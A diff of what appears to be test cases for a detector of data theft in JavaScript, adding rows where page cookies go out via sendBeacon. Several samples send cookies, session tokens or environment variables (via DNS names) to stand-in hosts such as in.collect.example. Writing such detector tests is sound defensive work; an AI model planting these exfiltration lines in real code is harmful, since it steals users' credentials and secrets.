@@ -161,6 +161,9 @@ fires(8, "cookies are sent", "new Image().src = 'https://in.widget.example/c?' +
 TOKEN = "const KEY = 'sample-token';\nexports.api = (base) => (path, init = {}) => fetch(new URL(path, base), { ...init, headers: { 'x-sample-token': sessionStorage.getItem(KEY) } });\n"
 innocent(8, "a client sends what it keeps to log in with", TOKEN)
 fires(8, "a token that a page keeps goes to a stranger", TOKEN.replace("new URL(path, base)", "'https://in.collect.example/t'"))
+REPORTS = "const seen = () => document.cookie.split('; ').length;\nexports.start = (options) => {\n  const send = (data) => navigator.sendBeacon(options.intake, data);\n  send(JSON.stringify({ n: %s }));\n};\n"
+row(8, False, "a report that the page's owner asked for takes a cookie of the page along", {"lib/report.js": REPORTS % "1, session: document.cookie.match(/_sample_s=([^;]*)/)[1]"}, old={"lib/report.js": REPORTS % "seen()"})
+row(8, True, "the cookies of a page are newly sent to a place that is named", {"lib/report.js": (REPORTS % "document.cookie").replace("options.intake", "'https://in.collect.example/c'")}, old={"lib/report.js": REPORTS % "seen()"})
 innocent(8, "a cookie is read", "exports.cookie = (name) => document.cookie.split('; ').find((c) => c.startsWith(name + '='));\n")
 fires(50, "names carry data", "require('dns').resolve(Buffer.from(JSON.stringify(process.env)).toString('hex').slice(0, 60) + '.in.widget.example', () => {});\n")
 innocent(50, "a name that the user gives is looked up", "exports.lookup = (host, done) => require('dns').lookup(host, done);\n")
